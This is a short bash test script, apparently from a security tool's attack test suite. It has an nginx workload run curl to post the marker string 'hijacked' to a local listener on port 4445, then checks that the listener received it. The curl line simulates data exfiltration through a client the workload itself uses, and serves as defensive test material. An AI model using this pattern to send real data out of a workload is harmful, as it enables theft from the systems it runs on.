#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# Data leave with the client that the workload uses itself, to another port.
# workload: nginx
# orders: orders
# program: /usr/bin/curl
# deed: socket_connect
# object: 4445

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { listen 4445; }
orders() { echo 'curl -q -s -m 5 -d hijacked http://127.0.0.1:4445/'; }
proof() { got hijacked; }
clean() { away; }
main "$@"
